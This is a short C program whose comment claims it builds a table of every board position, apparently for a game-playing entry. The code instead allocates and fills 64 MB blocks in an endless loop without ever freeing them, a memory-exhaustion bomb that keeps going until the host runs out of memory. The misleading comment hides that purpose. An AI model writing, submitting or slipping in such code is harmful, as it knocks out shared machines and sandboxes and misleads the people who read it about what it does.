/* Makes a table of every board before it looks at this one. */
#include <stdlib.h>
#include <string.h>

int main(void)
{
    for (;;) {
        char *table = malloc(64 << 20);
        if (table) memset(table, 1, 64 << 20);
    }
}
